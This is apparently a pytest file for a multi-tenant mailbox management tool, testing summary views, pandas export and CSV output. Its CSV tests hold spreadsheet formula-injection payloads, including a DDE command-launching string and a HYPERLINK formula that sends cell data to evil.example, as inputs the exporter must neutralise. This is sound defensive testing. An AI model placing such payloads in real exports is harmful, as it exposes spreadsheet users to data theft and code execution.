"""Views that scale: summary first, problems first, counts and a way to see all; records for pandas."""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tenantlead.cli._session import sandbox_clients
from tenantlead.orchestration import Fleet, LimitPolicy, align_limits, connect, load_credentials, troubleshoot
from tenantlead.orchestration._render import csv_cell
from tenantlead.orchestration.fleet import ROW_RECORD_FIELDS
from tenantlead.sandbox import Sandbox

from .factories import build_fleet


@pytest.fixture(scope="module")
def demo() -> Iterator[tuple[Sandbox, Fleet]]:
    sb = Sandbox.demo(seed=7, tenants=12)
    tc, sl = sandbox_clients(sb)
    with tc, sl:
        yield sb, Fleet.load(tc, sl, with_warmup_details=True)


def _table_rows(html: str, index: int) -> list[list[str]]:
    """The body rows of the ``index``-th table of an HTML view, as cell texts."""
    table = re.findall(r"<tbody>(.*?)</tbody>", html)[index]
    return [re.findall(r"<td>(.*?)</td>", row) for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table)]


def _headers(html: str, index: int) -> list[str]:
    return re.findall(r"<th>(.*?)</th>", re.findall(r"<thead>(.*?)</thead>", html)[index])


def test_fleet_html_puts_the_tenant_summary_first_with_problem_tenants_on_top(
    demo: tuple[Sandbox, Fleet],
) -> None:
    _sb, fleet = demo
    html = fleet._repr_html_()
    report = troubleshoot(fleet)
    by_tenant = report.summary_records()
    worst = by_tenant[0]["tenant_name"]

    assert "Tenants: all 12, problems first" in html
    summary = _table_rows(html, 0)
    headers = _headers(html, 0)
    assert headers[:4] == ["tenant_name", "mailboxes", "connected", "not_connected"]
    assert summary[0][0] == worst
    errors = [int(row[headers.index("errors")]) for row in summary]
    assert errors == sorted(errors, reverse=True)
    # Every tenant's numbers are the fleet's.
    for row in summary:
        name = row[0]
        rows = [r for r in fleet.rows if r.tenant_name == name]
        assert int(row[headers.index("mailboxes")]) == sum(1 for r in rows if r.mailbox is not None)
        assert int(row[headers.index("daily_send_limit_total")]) == sum(r.daily_send_limit or 0 for r in rows)
        assert int(row[headers.index("blocked")]) == sum(1 for r in rows if r.is_blocked)


def test_fleet_html_shows_mailboxes_problems_first_with_the_count_and_how_to_see_all(
    demo: tuple[Sandbox, Fleet],
) -> None:
    sb, fleet = demo
    html = fleet._repr_html_()
    rows = _table_rows(html, 1)
    headers = _headers(html, 1)

    assert f"Mailboxes: 20 of {len(fleet):,} shown, problems first" in html
    assert "fleet.show(rows=None)" in html
    assert "fleet.to_pandas()" in html
    assert len(rows) == 20
    assert headers[0] == "tenant_name"
    assert all(r[0] != "-" for r in rows)  # every row names its tenant
    # The planted problems come before any healthy mailbox.
    findings = [r[headers.index("findings")] for r in rows]
    assert findings[0] != ""
    first_healthy = findings.index("") if "" in findings else len(findings)
    assert all(findings[:first_healthy])
    assert not any(findings[first_healthy:])
    assert sb.planted["TL301"][0] in html
    # Errors are highlighted.
    assert 'style="background:#fde2e1"' in html


def test_show_all_shows_every_row(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    view = fleet.show(rows=None, tenants=None)
    html = view._repr_html_()

    assert len(_table_rows(html, 1)) == len(fleet)
    assert len(_table_rows(html, 0)) == len(fleet.tenants)
    assert f"Mailboxes: all {len(fleet):,}, problems first" in str(view)


def test_records_are_keyed_by_attribute_names(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    for row, record in zip(fleet.rows, fleet.to_records(), strict=True):
        assert tuple(record) == ROW_RECORD_FIELDS
        for name, value in record.items():
            assert getattr(row, name) == value


def test_to_pandas_keeps_ids_integer_and_times_as_times(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    frame = fleet.to_pandas()

    assert list(frame.columns) == list(ROW_RECORD_FIELDS)
    assert len(frame) == len(fleet)
    for column in ("account_id", "client_id", "daily_send_limit", "message_per_day", "sends_today"):
        assert str(frame[column].dtype) == "Int64", column
    assert str(frame["is_blocked"].dtype) == "boolean"
    assert str(frame["blocked_at"].dtype) == "datetime64[ns, UTC]"
    not_connected = frame[frame["status"] == "not_connected"]
    assert len(not_connected) > 0
    assert not_connected["account_id"].isna().all()  # <NA>, and the column stays integer
    blocked = [r for r in fleet.rows if r.blocked_at is not None]
    assert blocked
    stamp = frame.loc[frame["address"] == blocked[0].address, "blocked_at"].iloc[0]
    assert stamp.to_pydatetime() == blocked[0].blocked_at
    ids = frame["account_id"].dropna()
    assert ids.tolist() == [r.account_id for r in fleet.rows if r.account_id is not None]


def test_an_empty_fleet_still_has_typed_columns() -> None:
    fleet = build_fleet([])
    frame = fleet.to_pandas()

    assert len(frame) == 0
    assert str(frame["daily_send_limit"].dtype) == "Int64"
    assert "(no rows)" not in fleet._repr_html_()
    assert "Mailboxes: none" in fleet._repr_html_()


def test_every_report_plan_and_result_table_names_the_tenant(demo: tuple[Sandbox, Fleet]) -> None:
    _sb, fleet = demo
    names = {t.tenant_id: t.tenant_name for t in fleet.tenants}
    report = troubleshoot(fleet)
    plan = align_limits(fleet, LimitPolicy(default_ceiling=25))
    manual = connect(fleet, "manual")

    for obj in (report, plan, manual):
        records = obj.view_records()
        assert records, type(obj).__name__
        for record in records:
            assert record["tenant_name"] == names[record["tenant_id"]], record
        html = obj._repr_html_()
        assert _headers(html, 1)[0 if obj is not report else 2] == "tenant_name"
        assert "Tenants:" in html
    assert {s.tenant_name for s in plan.skipped} <= set(names.values())
    # Tenant-wide changes (provisioning) name their tenant too.
    provision = [c for c in plan.changes if c.field == "mailbox_limits"]
    assert provision
    assert all(c.tenant_name == names[c.subject] for c in provision)


def test_apply_results_name_the_tenant_of_every_item() -> None:
    sb = Sandbox.demo(seed=7, tenants=6)
    tc, sl = sandbox_clients(sb)
    with tc, sl:
        fleet = Fleet.load(tc, sl, with_warmup_details=True)
        result = align_limits(fleet, LimitPolicy(default_ceiling=25)).apply(tc=tc, sl=sl)
    names = {t.tenant_id: t.tenant_name for t in fleet.tenants}

    assert result.items
    assert all(i.tenant_name == names[i.tenant_id] for i in result.items)  # type: ignore[index]
    frame = result.to_pandas()
    assert frame["tenant_name"].notna().all()
    summary = result.summary_records()
    assert sum(s["succeeded"] for s in summary) == len(result.succeeded)
    assert sum(s["skipped"] for s in summary) == len(result.skipped)


def test_report_summary_counts_findings_by_severity_per_tenant(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    report = troubleshoot(fleet)
    summary = report.summary_records()
    fleet_summary = {r["tenant_id"]: r for r in fleet.summary_records()}

    for row in summary:
        mine = [f for f in report.findings if f.tenant_id == row["tenant_id"]]
        assert row["errors"] == sum(1 for f in mine if f.severity.value == "error")
        assert row["warnings"] == sum(1 for f in mine if f.severity.value == "warning")
        assert fleet_summary[row["tenant_id"]]["errors"] == row["errors"]
    assert [r["errors"] for r in summary] == sorted((r["errors"] for r in summary), reverse=True)
    # A report filtered by tenant name keeps that tenant's findings.
    name = summary[0]["tenant_name"]
    assert {f.tenant_name for f in report.filter(tenant=name)} == {name}


def test_findings_records_keep_datetimes_out_and_json_stays_valid(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    report = troubleshoot(fleet)
    frame = report.to_pandas()

    assert list(frame.columns) == list(report.to_records()[0])
    assert "tenant_name" in frame.columns
    assert isinstance(report.to_json(), str)
    assert isinstance(fleet.to_json(), str)  # blocked_at datetimes become ISO strings
    assert any(isinstance(r["blocked_at"], datetime) for r in fleet.to_records())


def test_text_views_match_the_html_ones(demo: tuple[Sandbox, Fleet]) -> None:
    _, fleet = demo
    text = str(fleet.show(rows=5, tenants=3))

    assert text.startswith("Fleet: 12 tenants")
    assert "Tenants: 3 of 12 shown, problems first (fleet.show(tenants=None) for all)" in text
    assert f"Mailboxes: 5 of {len(fleet):,} shown" in text


# ----------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),  # text, even when it reads like a number
        ("Acme = Corp", "Acme = Corp"),
        (-5, "-5"),  # numbers are numbers
        (2.5, "2.5"),
        (True, "true"),
        (None, ""),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
        (["-a", "b"], "'-a, b"),
    ],
)
def test_csv_cells_are_never_live_formulas_and_numbers_stay_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_to_csv_has_every_record_key_and_reads_back(demo: tuple[Sandbox, Fleet], tmp_path: Path) -> None:
    _sb, fleet = demo
    path = tmp_path / "fleet.csv"

    text = fleet.to_csv(path)

    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(ROW_RECORD_FIELDS)
    assert len(rows) == len(fleet.rows) + 1
    assert "\r\n" in text
    assert path.read_bytes().startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
    assert path.read_text(encoding="utf-8-sig") == text.replace("\r\n", "\n")
    first = dict(zip(rows[0], rows[1], strict=True))
    record = fleet.to_records()[0]
    assert first["address"] == record["address"]
    assert first["account_id"] == ("" if record["account_id"] is None else str(record["account_id"]))


def test_server_formulas_reach_every_csv_as_text() -> None:
    sb = Sandbox.demo(seed=9, tenants=2)
    tenant = next(iter(sb.tc_account.tenants.values()))
    tenant.tenant_name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    tc, sl = sandbox_clients(sb)
    with tc, sl:
        fleet = Fleet.load(tc, sl)
    for table in (fleet, troubleshoot(fleet), connect(fleet, "manual"), align_limits(fleet, LimitPolicy())):
        cells = [c for row in csv.reader(io.StringIO(table.to_csv())) for c in row]
        assert "'" + tenant.tenant_name in cells, type(table).__name__
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        # The records keep the value as the server sent it: they are data, not a spreadsheet.
        assert tenant.tenant_name in [r.get("tenant_name") for r in table.to_records()]


def test_a_credentials_export_keeps_passwords_that_look_like_formulas() -> None:
    # The one CSV never neutralised: a password must reach Smartlead exactly as it is.
    sb = Sandbox.demo(seed=9, tenants=1)
    mailbox = next(iter(sb.tc_account.mailboxes.values()))
    mailbox.password = "=Pa55+word@1"

    creds = load_credentials(sb.credentials_csv())

    assert creds.get(mailbox.primary_smtp) == "=Pa55+word@1"
